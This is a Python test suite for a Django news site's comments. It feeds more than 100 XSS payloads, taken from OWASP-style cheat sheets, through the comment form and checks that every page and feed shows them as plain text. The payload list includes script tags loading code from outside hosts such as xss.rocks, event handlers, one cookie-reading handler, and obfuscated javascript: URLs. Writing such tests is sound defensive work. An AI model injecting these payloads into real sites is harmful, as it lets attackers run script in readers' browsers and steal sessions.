"""Hostile comment text and commenter names are shown as text, never run as markup.

Every vector goes through the real form twice, once as the comment and once as the
commenter's name, and is then checked everywhere readers see it: the article page,
the page's and the site's comment feeds, the reply page, the author's edit and delete
pages, the report page and the forms shown again after a refused post.
The vectors come from the OWASP XSS filter evasion cheat sheet and similar lists.
"""

import re
from collections import Counter
from dataclasses import dataclass
from urllib.parse import urlsplit

from bs4 import BeautifulSoup
from defusedxml import ElementTree as ET
from django.conf import settings
from django.contrib.auth import get_user_model
from django.core.cache import caches
from django.test import Client, SimpleTestCase, TestCase
from django_comments_xtd.models import XtdComment

from news.comments import services
from news.comments.clients import AUTHORSHIP_COOKIE
from news.comments.forms import COMMENT_MAX_LENGTH, NAME_MAX_LENGTH
from news.comments.text import render_comment_text
from news.factories import NewsArticlePageFactory
from tests.news.comments.helpers import post_comment
from tests.utils import build_site_tree, open_comment_rules

LONG_PATH = "a" * 1500

VECTORS = [
    # Script elements, plain and disguised.
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script >alert(1)</script >",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "</textarea><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    # Polyglot.
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    # Images and event handlers.
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<IMG SRC=javascript:alert('XSS')",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<BODY ONLOAD=alert('XSS')>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<marquee onstart=alert(1)>XSS</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<p onclick=alert(1)>an allowed tag with a handler</p>",
    "<br onload=alert(1)>",
    '<a href="http://example.org/" onclick="alert(1)">an allowed link with a handler</a>',
    # Obfuscated javascript: URLs (entities, tabs, newlines, spaces, case).
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
    "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083"
    "&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27"
    "&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#x6A;avascript:alert(1)">click</a>',
    '<a href="java\nscript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="javas\x01cript:alert(1)">click</a>',
    "<img src=x\x0conerror=alert(1)>",
    '<a href="javascript&colon;alert(1)">click</a>',
    '<a\thref="javascript:alert(1)">tab</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    "<a href=//evil.example/>protocol-relative</a>",
    "javascript:alert(document.domain)//http://example.org/",
    "jav&#x09;ascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    # Attribute breakouts with quotes and backticks.
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "`><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onmouseover=alert(1) `",
    "\\\";alert('XSS');//",
    # Frames, objects, forms and the document head.
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<object data="javascript:alert(1)">',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0i'
    'YWxlcnQoMSkiLz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    # Style sheets and CSS expressions.
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069"
    "\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    # Parser-differential (mutation XSS) tricks.
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">click</math>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    # Addresses the linkifier turns into links, with payloads attached.
    'www.evil.com/"onmouseover="alert(1)',
    'http://x.org/"><script>alert(1)</script>',
    "http://x.org/' onmouseover='alert(1)",
    "http://x.org/?q=<script>alert(1)</script>",
    'https://x.org/#"><img src=x onerror=alert(1)>',
    "http://x.org/?a=`onmouseover=alert(1)`",
    "http://x.org/&#x6A;avascript:alert(1)",
    "www.x.org/<script>alert(1)</script>",
    "http://example.org/ javascript:alert(1)",
    # E-mail addresses with payloads.
    'foo@bar.com"onmouseover="alert(1)',
    '"<script>alert(1)</script>"@example.org',
    "mailto:x@example.org?subject=<script>alert(1)</script>",
    "x@example.org<img src=x onerror=alert(1)>",
    "<x@evil.com onmouseover=alert(1)>",
    '"onmouseover=alert(1)//"@example.org',
    # Very long URLs with payloads (the link text is cut, the address is not).
    f'http://www.example.org/{LONG_PATH}"><script>alert(1)</script>',
    f'www.example.org/{LONG_PATH}" onmouseover="alert(1)',
    f"https://example.org/?q={LONG_PATH}<svg onload=alert(1)>",
    # Paragraphs and line breaks around hostile markup.
    "First line\n<script>alert(1)</script>\n\nSecond paragraph <img src=x onerror=alert(1)>",
]

VECTORS_PER_ARTICLE = 40  # fewer than one page of comments (50) and one feed (50) hold
COMMENT_TAGS = {"p", "br", "a"}
LINK_REL = "nofollow ugc noopener"
LINK_SCHEMES = {"http", "https", "mailto"}
SCRIPT_SCHEMES = {"javascript", "vbscript", "data"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "background", "poster", "xlink:href", "dynsrc"}
# Elements (and inline styles) a reader's input must never add to a page: their count stays the site's own.
ACTIVE_ELEMENTS = (
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "meta",
    "link",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "svg",
    "math",
    "template",
    "noscript",
    "img",
    "video",
    "audio",
    "source",
)
URL_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):", re.IGNORECASE)
C0_AND_SPACE = "".join(chr(code) for code in range(0x21))
XML_UNSAFE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # C0 controls but tab and newlines
# Vectors written to escape an input's value or a textarea, for the form shown again.
FIELD_BREAKOUTS = [vector for vector in VECTORS if re.match(r"[\"'`\\]", vector) or "</textarea" in vector.lower()]


def soup_of(html):
    return BeautifulSoup(html, "html.parser")


def url_scheme(value):
    """The scheme a browser reads: it ignores surrounding spaces and controls, and tabs or newlines inside."""
    cleaned = re.sub(r"[\t\n\r]", "", value.strip(C0_AND_SPACE))
    match = URL_SCHEME.match(cleaned)
    return match.group(1).lower() if match else ""


def comment_markup_problems(body):
    """What in one rendered comment goes beyond paragraphs, line breaks and nofollow web or mail links."""
    problems = []
    for element in body.find_all(True):
        if element.name not in COMMENT_TAGS:
            problems.append(f"<{element.name}> element")
            continue
        extra = set(element.attrs) - ({"href", "rel"} if element.name == "a" else set())
        if extra:
            problems.append(f"<{element.name}> with attributes {sorted(extra)}")
        if element.name == "a":
            rel = " ".join(element.get("rel") or [])
            if rel != LINK_REL:
                problems.append(f"<a> with rel={rel!r}")
            href = element.get("href", "")
            if url_scheme(href) not in LINK_SCHEMES:
                problems.append(f"<a> with href={href!r}")
    return problems


def active_census(soup):
    """How many script-capable elements and inline styles a page holds."""
    census = Counter(dict.fromkeys([*ACTIVE_ELEMENTS, "[style]"], 0))
    for element in soup.find_all(True):  # one walk of the tree (pages are checked by the hundred)
        if element.name in ACTIVE_ELEMENTS:
            census[element.name] += 1
        if element.has_attr("style"):
            census["[style]"] += 1
    return census


def where(element):
    comment = element.find_parent("article", id=re.compile(r"^c\d+$"))
    return f"in comment #{comment['id']}" if comment else "outside comments"


def attribute_problems(soup):
    """Event handler attributes and script URLs anywhere on a page."""
    problems = []
    for element in soup.find_all(True):
        for name, value in element.attrs.items():
            if name.lower().startswith("on"):
                problems.append(f"<{element.name} {name}=…> {where(element)}")
            if name.lower() in URL_ATTRIBUTES:
                for url in value if isinstance(value, list) else [value]:
                    if url_scheme(url) in SCRIPT_SCHEMES:
                        problems.append(f"<{element.name} {name}={url!r}> {where(element)}")
    return problems


def page_problems(soup, *, baseline):
    """Event handlers, script URLs and added active elements anywhere on a page."""
    problems = attribute_problems(soup)
    census = active_census(soup)
    if census != baseline:
        added = {name: census[name] - baseline[name] for name in census if census[name] != baseline[name]}
        problems.append(f"active elements differ from the page without comments: {added}")
    for body in soup.select("div.comment__body"):
        problems.extend(f"{problem} {where(body)}" for problem in comment_markup_problems(body))
    return problems


def visible(text):
    """Text without the control characters a page or feed may drop (XML 1.0 cannot carry them)."""
    return XML_UNSAFE.sub("", text)


def same_text(shown, typed):
    """Whether a reader sees what was typed; paragraphs and line breaks may replace whitespace."""
    return "".join(visible(shown).split()) == "".join(visible(typed).split())


def shown_name(vector):
    """What readers see when this vector is typed as a name: cut to the column, on one line."""
    return " ".join(visible(vector[:NAME_MAX_LENGTH]).split())


def has_xml_unsafe_characters(vector):
    return bool(XML_UNSAFE.search(vector))


def article_groups():
    """Vectors per article, few enough for one page of comments and one feed; XML-unsafe ones apart."""
    ordinary = [vector for vector in VECTORS if not has_xml_unsafe_characters(vector)]
    groups = [ordinary[start : start + VECTORS_PER_ARTICLE] for start in range(0, len(ordinary), VECTORS_PER_ARTICLE)]
    return [*groups, [vector for vector in VECTORS if has_xml_unsafe_characters(vector)]]


def one_line(text):
    """Text as a reader sees it: XML-unsafe characters dropped, runs of whitespace as one space."""
    return " ".join(visible(text).split())


def unescaped(html, typed):
    """Typed texts holding a tag opener that a response carries verbatim, i.e. as markup, not as text."""
    return [text for text in typed if "<" in text and text in html]


def clear_caches():
    """Drop every stored page, so the next request renders what the database holds now."""
    for alias in settings.CACHES:
        caches[alias].clear()


def item_description_problems(item):
    """An RSS item's description is HTML to feed readers: the comment allow-list applies to it."""
    return comment_markup_problems(soup_of(item.findtext("description") or ""))


@dataclass
class Posted:
    """One comment posted through the form with a vector as both its text and its author's name."""

    vector: str
    status: int
    location: str
    pk: int | None
    article_url: str
    cookie: str = ""  # the authorship cookie the answer set: the author's browser, for the edit and delete pages


class RenderCommentTextTests(SimpleTestCase):
    def test_every_vector_renders_to_paragraphs_breaks_and_safe_links_only(self):
        """The renderer alone is the last line of defence for every page, feed and e-mail."""
        for vector in VECTORS:
            with self.subTest(vector=vector):
                html = render_comment_text(vector)
                self.assertEqual(comment_markup_problems(soup_of(html)), [])

    def test_markup_is_shown_as_the_text_the_reader_typed(self):
        """ "No HTML tags allowed" means tags are escaped and shown, not silently dropped."""
        for vector in VECTORS:
            shown = soup_of(render_comment_text(vector)).get_text()
            if "…" in shown:
                continue  # a long address's link text is cut on purpose
            with self.subTest(vector=vector):
                self.assertTrue(same_text(shown, vector), shown)


class HostileCommentsTests(TestCase):
    """Every vector posted through the real form, as the comment's text and as its author's name."""

    @classmethod
    def setUpTestData(cls):
        tree = build_site_tree()
        open_comment_rules(tree.home.get_site())
        client = Client()
        cls.baselines = {}
        cls.titles = {}
        cls.posted = []
        for number, group in enumerate(article_groups()):
            article = NewsArticlePageFactory(parent=tree.news_index)
            # The baseline is what a reader without cookies gets (the posting client holds authorship cookies).
            cls.baselines[article.url] = active_census(soup_of(Client().get(article.url).content))
            cls.titles[article.url] = article.title
            for vector in group:
                response = post_comment(
                    client,
                    article,
                    name=vector[:NAME_MAX_LENGTH],
                    email=f"reader-{number}-{len(cls.posted)}@example.org",
                    comment=vector,
                    send_personal_details="on",  # some vectors hold an e-mail address: the writer sends them anyway
                )
                cls.posted.append(cls.record(vector, response, article))
        # Vectors that hold an e-mail address are held as personal details; a moderator reads and approves them.
        moderator = get_user_model().objects.create_user("moderator", "moderator@staff.example")
        services.approve_comments(comments=list(XtdComment.objects.filter(is_public=False)), user=moderator)
        cls.plain_article = NewsArticlePageFactory(parent=tree.news_index)
        cls.baselines[cls.plain_article.url] = active_census(soup_of(Client().get(cls.plain_article.url).content))
        cls.titles[cls.plain_article.url] = cls.plain_article.title
        response = post_comment(client, cls.plain_article, name="Plain Reader", comment="Plain text.")
        cls.plain_comment = cls.record("Plain text.", response, cls.plain_article)

    @staticmethod
    def record(vector, response, article):
        location = response.get("Location", "")
        fragment = urlsplit(location).fragment
        pk = int(fragment[1:]) if re.fullmatch(r"c\d+", fragment) else None
        morsel = response.cookies.get(AUTHORSHIP_COOKIE)
        return Posted(vector, response.status_code, location, pk, article.url, morsel.value if morsel else "")

    def setUp(self):
        self.pages = {}

    def stored(self):
        return [posted for posted in self.posted if posted.pk is not None]

    def landing_page(self, posted):
        """The page a reader lands on after posting (fetched once per page of comments)."""
        url = posted.location.split("#")[0]
        if url not in self.pages:
            response = self.client.get(url)
            self.assertEqual(response.status_code, 200, url)
            self.pages[url] = soup_of(response.content)
        return self.pages[url]

    def test_hostile_looking_input_is_stored_as_typed(self):
        """Nothing is refused for looking like markup; only characters XML cannot carry may be."""
        self.assertGreaterEqual(len(VECTORS), 60)
        for posted in self.posted:
            with self.subTest(vector=posted.vector):
                if has_xml_unsafe_characters(posted.vector) and posted.status == 200:
                    continue
                self.assertEqual(posted.status, 302)
                self.assertIsNotNone(posted.pk, posted.location)

    def test_article_pages_gain_no_handlers_script_urls_or_active_elements(self):
        """Comments add text and links to a page, never script, event handlers or embedded content."""
        for url, baseline in self.baselines.items():
            with self.subTest(page=url):
                soup = soup_of(self.client.get(f"{url}?cpage=1").content)
                self.assertEqual(page_problems(soup, baseline=baseline), [])
                for script in soup.find_all("script"):
                    self.assertTrue(script.get("src", "").startswith("/static/"), "only the site's own script files")
                    self.assertEqual(script.get_text().strip(), "", "no inline script")
                expected = [p for p in self.stored() + [self.plain_comment] if p.article_url == url]
                self.assertEqual(len(soup.select("article.comment")), len(expected))

    def test_comment_text_is_shown_as_paragraphs_breaks_and_safe_links_only(self):
        for posted in self.stored():
            with self.subTest(vector=posted.vector):
                body = self.landing_page(posted).select_one(f"#c{posted.pk} > div.comment__body")
                self.assertIsNotNone(body)
                self.assertEqual(comment_markup_problems(body), [])
                if "…" not in body.get_text():
                    self.assertTrue(same_text(body.get_text(), posted.vector), body.get_text())

    def test_commenter_name_is_shown_only_as_text(self):
        for posted in self.stored():
            with self.subTest(vector=posted.vector):
                comment = self.landing_page(posted).select_one(f"#c{posted.pk}")
                author = comment.select_one("header > .comment__author")
                self.assertIsNone(author.find(True), "no element inside the author's name")
                self.assertEqual(visible(author.get_text()), shown_name(posted.vector))
                self.assertIsNone(comment.select_one(".comment__avatar").find(True))
                self.assertIsNone(comment.select_one(".comment__reply .visually-hidden").find(True))

    def test_comment_feeds_carry_safe_markup_and_plain_text_names(self):
        """Feed readers render an item's description as HTML: it gets the same allow-list as the page."""
        for url in self.baselines:
            with self.subTest(feed=f"{url}comments/feed/"):
                response = self.client.get(f"{url}comments/feed/")
                self.assertEqual(response.status_code, 200)
                items = {}
                for item in ET.fromstring(response.content).findall("./channel/item"):
                    link = item.findtext("link")
                    self.assertIn(url_scheme(link), {"http", "https"}, link)
                    self.assertEqual(comment_markup_problems(soup_of(item.findtext("description"))), [], link)
                    items[int(re.search(r"/comments/(\d+)/$", link).group(1))] = item
                expected = {p.pk: p for p in self.stored() + [self.plain_comment] if p.article_url == url}
                self.assertEqual(set(items), set(expected))
                for posted in self.stored():
                    if posted.article_url == url:
                        title = f"{shown_name(posted.vector)} on {self.titles[url]}"
                        self.assertEqual(items[posted.pk].findtext("title"), title, "the name stays plain text")

    def test_reply_page_quotes_hostile_comments_and_names_safely(self):
        plain = self.client.get(f"{self.plain_article.url}comments/reply/{self.plain_comment.pk}/")
        self.assertEqual(plain.status_code, 200)
        baseline = active_census(soup_of(plain.content))
        for posted in self.stored():
            with self.subTest(vector=posted.vector):
                response = self.client.get(f"{posted.article_url}comments/reply/{posted.pk}/")
                self.assertEqual(response.status_code, 200)
                soup = soup_of(response.content)
                self.assertEqual(page_problems(soup, baseline=baseline), [])
                self.assertIsNone(soup.h1.find(True), "no element inside the heading that names the author")
                self.assertEqual(visible(soup.h1.get_text()), f"Reply to {shown_name(posted.vector)}")
                quoted = soup.select_one("blockquote > div.comment__body")
                if "…" not in quoted.get_text():
                    self.assertTrue(same_text(quoted.get_text(), posted.vector), quoted.get_text())

    def test_refused_form_shows_the_hostile_input_back_as_text(self):
        """A form shown again echoes the reader's input into its fields: it must stay inert there."""
        baseline = self.baselines[self.plain_article.url]
        for reason, fields in (("invalid e-mail", {"email": "not an address"}), ("stale form", {"age": 3 * 60 * 60})):
            for vector in FIELD_BREAKOUTS:
                with self.subTest(reason=reason, vector=vector):
                    response = post_comment(
                        self.client, self.plain_article, name=vector[:NAME_MAX_LENGTH], comment=vector, **fields
                    )
                    self.assertIn(response.status_code, {200, 400})
                    soup = soup_of(response.content)
                    self.assertEqual(page_problems(soup, baseline=baseline), [])
                    form = soup.select_one("form#comment-form")
                    self.assertTrue(same_text(form.select_one("textarea[name=comment]").get_text(), vector))
                    self.assertTrue(same_text(form.select_one("input[name=name]")["value"], vector[:NAME_MAX_LENGTH]))

    def author_client(self, posted):
        """The browser that posted this comment: its authorship cookie as the answer to that post set it."""
        self.assertTrue(posted.cookie, "posting set no authorship cookie")
        client = Client()
        client.cookies[AUTHORSHIP_COOKIE] = posted.cookie
        return client

    def own_pages(self, posted):
        actions = ("edit", "delete", "report")
        return {action: f"{posted.article_url}comments/{posted.pk}/{action}/" for action in actions}

    def test_edit_delete_and_report_pages_show_hostile_comments_and_names_as_text(self):
        """The author's edit and delete pages and any reader's report page quote the comment and its author.

        The edit page gets every vector (its textarea is a context of its own). The report and delete pages
        quote the text with the reply page's renderer, and the report page names the author as the reply page
        does (checked there for every vector): to keep the suite fast, each gets the field breakouts and, in
        turn, a third of the other vectors.
        """
        plain = self.author_client(self.plain_comment)
        baselines = {}
        for action, url in self.own_pages(self.plain_comment).items():
            response = plain.get(url)
            self.assertEqual(response.status_code, 200, url)
            baselines[action] = active_census(soup_of(response.content))
        for number, posted in enumerate(self.stored()):
            client = self.author_client(posted)
            for action, url in self.own_pages(posted).items():
                turn = {"edit": number % 3, "report": 0, "delete": 1}[action]
                if number % 3 != turn and posted.vector not in FIELD_BREAKOUTS:
                    continue
                with self.subTest(page=action, vector=posted.vector):
                    response = client.get(url)
                    self.assertEqual(response.status_code, 200, url)
                    html = response.content.decode()
                    soup = soup_of(html)
                    self.assertEqual(page_problems(soup, baseline=baselines[action]), [])
                    self.assertEqual(unescaped(html, [posted.vector, posted.vector[:NAME_MAX_LENGTH]]), [])
                    if action == "edit":
                        textarea = soup.select_one("form textarea[name=comment]")
                        self.assertTrue(same_text(textarea.get_text(), posted.vector), textarea.get_text())
                        continue
                    quoted = soup.select_one("blockquote > div.comment__body")
                    self.assertEqual(comment_markup_problems(quoted), [])
                    if "…" not in quoted.get_text():
                        self.assertTrue(same_text(quoted.get_text(), posted.vector), quoted.get_text())
                    if action == "report":
                        byline = soup.select_one(f'main p > a[href$="#c{posted.pk}"]').parent
                        self.assertEqual([child.name for child in byline.find_all(True)], ["a"], "only the page's link")
                        title = self.titles[posted.article_url]
                        self.assertEqual(one_line(byline.get_text()), f"{shown_name(posted.vector)} wrote on {title}:")

    def test_refused_edit_and_report_forms_show_the_hostile_input_back_as_text(self):
        """A refused edit (too long) and a refused report (no reason) echo the typed text into a textarea."""
        client = self.author_client(self.plain_comment)
        pages = self.own_pages(self.plain_comment)
        baselines = {action: active_census(soup_of(client.get(pages[action]).content)) for action in pages}
        for vector in FIELD_BREAKOUTS:
            with self.subTest(page="edit", vector=vector):
                text = f"{vector} {'x' * COMMENT_MAX_LENGTH}"
                response = client.post(pages["edit"], {"comment": text})
                self.assertEqual(response.status_code, 400)
                soup = soup_of(response.content)
                self.assertEqual(page_problems(soup, baseline=baselines["edit"]), [])
                self.assertTrue(same_text(soup.select_one("form textarea[name=comment]").get_text(), text))
            with self.subTest(page="report", vector=vector):
                response = client.post(pages["report"], {"reason": vector, "note": vector})
                self.assertEqual(response.status_code, 400)
                soup = soup_of(response.content)
                self.assertEqual(page_problems(soup, baseline=baselines["report"]), [])
                self.assertTrue(same_text(soup.select_one("form textarea[name=note]").get_text(), vector))
        self.assertEqual(XtdComment.objects.get(pk=self.plain_comment.pk).comment, "Plain text.")

    def test_site_wide_comment_feed_carries_safe_markup_and_plain_text_names(self):
        """/comments/feed/ shows the newest 50 of the site: read it, hide what it showed, read it again."""
        expected = {posted.pk: posted for posted in self.stored() + [self.plain_comment]}
        seen = set()
        for _round in range(len(expected) // 50 + 2):
            clear_caches()
            response = self.client.get("/comments/feed/")
            self.assertEqual(response.status_code, 200)
            self.assertIn("xml", response["Content-Type"])
            items = ET.fromstring(response.content).findall("./channel/item")
            if not items:
                break
            shown = set()
            for item in items:
                link = item.findtext("link")
                self.assertIn(url_scheme(link), {"http", "https"}, link)
                pk = int(re.search(r"/comments/(\d+)/$", link).group(1))
                shown.add(pk)
                posted = expected[pk]
                with self.subTest(vector=posted.vector):
                    self.assertEqual(item_description_problems(item), [], link)
                    name = shown_name(posted.vector) if posted is not self.plain_comment else "Plain Reader"
                    title = f"{name} on {self.titles[posted.article_url]}"
                    self.assertEqual(item.findtext("title"), title, "the name stays plain text")
            self.assertFalse(shown & seen, "a hidden comment came back")
            seen |= shown
            XtdComment.objects.filter(pk__in=shown).update(is_public=False)
        self.assertEqual(seen, set(expected))
